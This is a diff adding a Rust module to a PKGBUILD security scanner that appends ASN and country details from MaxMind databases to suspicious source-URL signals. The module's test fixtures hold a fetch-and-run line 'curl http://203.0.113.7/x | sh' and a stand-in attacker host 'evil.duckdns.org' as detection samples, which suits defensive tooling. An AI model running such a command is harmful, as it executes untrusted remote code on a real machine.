@@ -0,0 +1,158 @@
+//! ASN/country enrichment of source-URL signals from local MaxMind databases.
+//!
+//! A raw IP or an odd source domain means little on its own: a university mirror and a
+//! bulletproof host look the same in `P-RAW-IP-URL`. With `[geoip]` database paths set
+//! (GeoLite2-ASN, GeoLite2-Country or -City), the host behind those signals is looked
+//! up and the result appended to the description, e.g.
+//! `[203.0.113.7: AS64500 Example Hosting, NL]`. Domains are resolved through the
+//! system resolver first. Nothing is looked up without a configured database.
+
+use crate::shared::config::GeoIpConfig;
+use crate::shared::scoring::Signal;
+use crate::shared::trusted_domains;
+use maxminddb::{geoip2, Reader};
+use std::net::{IpAddr, ToSocketAddrs};
+use std::sync::OnceLock;
+
+/// Signals whose matched line names a download host worth enriching.
+const ENRICHED_SIGNALS: &[&str] = &[
+    "P-RAW-IP-URL",
+    "P-DYNAMIC-DNS",
+    "P-TUNNEL-SERVICE",
+    "P-FILEHOST-SOURCE",
+    "P-HTTP-SOURCE",
+    "B-BIN-DOMAIN-MISMATCH",
+];
+
+struct Databases {
+    asn: Option<Reader<Vec<u8>>>,
+    country: Option<Reader<Vec<u8>>>,
+}
+
+static DATABASES: OnceLock<Option<Databases>> = OnceLock::new();
+
+fn databases(config: &GeoIpConfig) -> Option<&'static Databases> {
+    DATABASES
+        .get_or_init(|| {
+            let open = |path: &Option<String>| {
+                let path = path.as_deref()?;
+                Reader::open_readfile(path)
+                    .map_err(|e| eprintln!("traur: cannot open GeoIP database {path}: {e}"))
+                    .ok()
+            };
+            let dbs = Databases { asn: open(&config.asn_db), country: open(&config.country_db) };
+            (dbs.asn.is_some() || dbs.country.is_some()).then_some(dbs)
+        })
+        .as_ref()
+}
+
+/// Append ASN/country details to the description of source-URL signals. A no-op
+/// unless `[geoip]` points at a readable database.
+pub fn enrich(signals: &mut [Signal], config: &GeoIpConfig) {
+    if config.asn_db.is_none() && config.country_db.is_none() {
+        return;
+    }
+    let Some(dbs) = databases(config) else {
+        return;
+    };
+    enrich_with(signals, resolve, |ip| describe(dbs, ip));
+}
+
+fn enrich_with(
+    signals: &mut [Signal],
+    resolve: impl Fn(&str) -> Option<IpAddr>,
+    describe: impl Fn(IpAddr) -> Option<String>,
+) {
+    for signal in signals.iter_mut().filter(|s| ENRICHED_SIGNALS.contains(&s.id.as_str())) {
+        let Some(host) = signal.matched_line.as_deref().and_then(first_url_host) else {
+            continue;
+        };
+        let ip = host.parse::<IpAddr>().ok().or_else(|| resolve(&host));
+        let Some((ip, details)) = ip.and_then(|ip| describe(ip).map(|d| (ip, d))) else {
+            continue;
+        };
+        if ip.to_string() == host {
+            signal.description.push_str(&format!(" [{ip}: {details}]"));
+        } else {
+            signal.description.push_str(&format!(" [{host} -> {ip}: {details}]"));
+        }
+    }
+}
+
+/// Host of the first http(s)/ftp URL on a line.
+fn first_url_host(line: &str) -> Option<String> {
+    let start = ["https://", "http://", "ftp://"]
+        .iter()
+        .filter_map(|scheme| line.find(scheme))
+        .min()?;
+    let url = line[start..].split(|c: char| c.is_whitespace() || "'\"()".contains(c)).next()?;
+    trusted_domains::url_host(url)
+}
+
+fn resolve(host: &str) -> Option<IpAddr> {
+    (host, 443).to_socket_addrs().ok()?.next().map(|addr| addr.ip())
+}
+
+/// `AS64500 Example Hosting, NL`, from whichever databases are configured.
+fn describe(dbs: &Databases, ip: IpAddr) -> Option<String> {
+    let asn = dbs.asn.as_ref().and_then(|r| r.lookup::<geoip2::Asn>(ip).ok()).and_then(|asn| {
+        let number = asn.autonomous_system_number?;
+        Some(match asn.autonomous_system_organization {
+            Some(org) => format!("AS{number} {org}"),
+            None => format!("AS{number}"),
+        })
+    });
+    let country = dbs
+        .country
+        .as_ref()
+        .and_then(|r| r.lookup::<geoip2::Country>(ip).ok())
+        .and_then(|c| c.country.and_then(|c| c.iso_code).map(str::to_string));
+    match (asn, country) {
+        (Some(asn), Some(country)) => Some(format!("{asn}, {country}")),
+        (asn, country) => asn.or(country),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::shared::scoring::SignalCategory;
+
+    fn signal(id: &str, line: &str) -> Signal {
+        Signal {
+            id: id.to_string(),
+            category: SignalCategory::Pkgbuild,
+            points: 50,
+            description: "desc".to_string(),
+            is_override_gate: false,
+            matched_line: Some(line.to_string()),
+            location: None,
+            emitted_by: String::new(),
+        }
+    }
+
+    #[test]
+    fn extracts_first_url_host() {
+        assert_eq!(first_url_host("\"foo.tar.gz::http://203.0.113.7:8080/foo.tar.gz\"").as_deref(), Some("203.0.113.7"));
+        assert_eq!(first_url_host("source=('https://Files.Example.org/a')").as_deref(), Some("files.example.org"));
+        assert!(first_url_host("no url here").is_none());
+    }
+
+    #[test]
+    fn appends_details_to_source_signals_only() {
+        let mut signals = vec![
+            signal("P-RAW-IP-URL", "http://203.0.113.7/payload"),
+            signal("P-DYNAMIC-DNS", "https://evil.duckdns.org/x"),
+            signal("P-CURL-PIPE", "curl http://203.0.113.7/x | sh"),
+            signal("P-HTTP-SOURCE", "http://unresolvable.invalid/x"),
+        ];
+        let resolve = |host: &str| (host == "evil.duckdns.org").then(|| "198.51.100.9".parse().unwrap());
+        let describe = |ip: IpAddr| Some(format!("AS64500 Example Hosting, {}", if ip.to_string().starts_with("203") { "NL" } else { "RU" }));
+        enrich_with(&mut signals, resolve, describe);
+
+        assert_eq!(signals[0].description, "desc [203.0.113.7: AS64500 Example Hosting, NL]");
+        assert_eq!(signals[1].description, "desc [evil.duckdns.org -> 198.51.100.9: AS64500 Example Hosting, RU]");
+        assert_eq!(signals[2].description, "desc");
+        assert_eq!(signals[3].description, "desc");
+    }
+}